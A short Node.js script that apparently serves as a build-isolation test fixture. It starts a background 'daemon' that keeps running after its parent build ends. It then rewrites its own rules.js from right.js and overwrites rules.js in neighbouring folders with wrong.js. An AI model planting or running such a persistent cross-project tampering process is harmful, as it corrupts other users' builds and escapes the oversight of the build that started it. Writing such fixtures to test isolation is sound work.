import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

process.title = 'daemon @MARK@';
const [home] = process.argv.slice(2);
const right = readFileSync('right.js', 'utf8');
const wrong = readFileSync('wrong.js', 'utf8');
const began = Date.now();
const builder = process.ppid;
let stored;
const timer = setInterval(() => {
  if (Date.now() - began > 50_000) return clearInterval(timer);
  if (process.ppid !== builder) stored ??= Date.now();
  // In its own build, long after the command that built it has ended.
  if (stored !== undefined && Date.now() - stored > 3000) tried(() => writeFileSync('rules.js', right));
  // In what others have built since, in the same place and next door.
  const doors = tried(() => readdirSync(join(home, '..'))) ?? [];
  for (const folder of [home, ...doors.flatMap((name) => [join(home, '..', name), join(home, '..', name, 'app')])]) {
    const text = tried(() => readFileSync(join(folder, 'rules.js'), 'utf8'));
    const isMine = tried(() => readFileSync(join(folder, 'right.js'), 'utf8')) !== undefined;
    if (text !== undefined && !isMine && text !== wrong) tried(() => writeFileSync(join(folder, 'rules.js'), wrong));
  }
}, 20);

function tried(act) {
  try {
    return act();
  } catch {
    return undefined;
  }
}
